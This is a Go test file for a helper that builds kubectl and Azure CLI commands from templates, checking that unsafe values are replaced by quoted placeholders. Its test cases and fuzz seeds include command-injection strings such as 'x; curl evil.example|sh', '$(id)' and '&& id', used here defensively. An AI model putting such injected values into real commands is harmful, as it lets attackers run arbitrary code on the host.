package text

import (
	"os/exec"
	"strings"
	"testing"
)

func TestCommand(t *testing.T) {
	const format = "kubectl annotate --overwrite serviceaccount (-n {namespace}) {account} azure.workload.identity/client-id={client-id}"
	for name, c := range map[string]struct {
		values Values
		want   string
	}{
		"all": {
			Values{"namespace": "shop", "account": "orders", "client-id": "b3a1c0de-5f21-4a77-9c3e-20f6a1d4e811"},
			"kubectl annotate --overwrite serviceaccount -n shop orders azure.workload.identity/client-id=b3a1c0de-5f21-4a77-9c3e-20f6a1d4e811",
		},
		"without the namespace": {
			Values{"account": "orders", "client-id": "x"},
			"kubectl annotate --overwrite serviceaccount orders azure.workload.identity/client-id=x",
		},
		"not plain": {
			Values{"namespace": "$(id)", "account": "-A", "client-id": "x; curl evil.example|sh"},
			"kubectl annotate --overwrite serviceaccount -n '<namespace>' '<account>' 'azure.workload.identity/client-id=<client-id>'",
		},
		"a line of its own": {
			Values{"account": "a\nid", "client-id": ""},
			"kubectl annotate --overwrite serviceaccount '<account>' 'azure.workload.identity/client-id=<client-id>'",
		},
	} {
		if got := Command(format, c.values); got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, c.want)
		}
	}
	if got, want := Command("az role assignment list --scope $VAULT_1/secrets/{name} --query [?principalId=='$PRINCIPAL']", Values{"name": "DB"}),
		`az role assignment list --scope "$VAULT_1"/secrets/DB --query '[?principalId=='\'''"$PRINCIPAL"''\'']'`; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	if got, want := Command("echo {a} $ $a $B", Values{"a": "$B"}), `echo '<a>' '$' '$a' "$B"`; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	if got, want := Command("az keyvault secret list --query [].name -o tsv", nil), "az keyvault secret list --query '[].name' -o tsv"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

// FuzzCommand has a shell read commands with any values: it must see the words of the command, and run nothing else.
func FuzzCommand(f *testing.F) {
	for _, value := range []string{
		"orders", "", "-A", "x; id", "$(id)", "`id`", "a b", "'", "\\", "a\nid", "&& id", "> out", "é", "\xff", "*", "~", "#", "!x", "{a,b}",
	} {
		f.Add(value, value)
	}
	sh, err := exec.LookPath("sh")
	if err != nil {
		f.Fatal("there is no POSIX shell to try commands with")
	}
	f.Fuzz(func(t *testing.T, namespace, value string) {
		command := Command("kubectl label (-n {namespace}) pods {value} azure.keyvault.injector/x={value}", Values{"namespace": namespace, "value": value})
		if strings.ContainsAny(command, "\n\r\x00") {
			t.Fatalf("%q is no line", command)
		}
		if out, err := exec.Command(sh, "-n", "-c", command).CombinedOutput(); err != nil {
			t.Fatalf("%s: %v: %s", command, err, out)
		}
		run := exec.Command(sh, "-c", `kubectl() { printf '%s\n' "$@"; }; `+command)
		run.Env, run.Dir = []string{"PATH=/nowhere"}, t.TempDir()
		out, err := run.CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v: %s", command, err, out)
		}
		want := []string{"label"}
		word := func(name, value string) string {
			if Plain(value) {
				return value
			}
			return "<" + name + ">"
		}
		if namespace != "" {
			want = append(want, "-n", word("namespace", namespace))
		}
		want = append(want, "pods", word("value", value), "azure.keyvault.injector/x="+word("value", value))
		if got := strings.TrimSuffix(string(out), "\n"); got != strings.Join(want, "\n") {
			t.Fatalf("%s: the shell saw\n%s\nwant\n%s", command, got, strings.Join(want, "\n"))
		}
	})
}
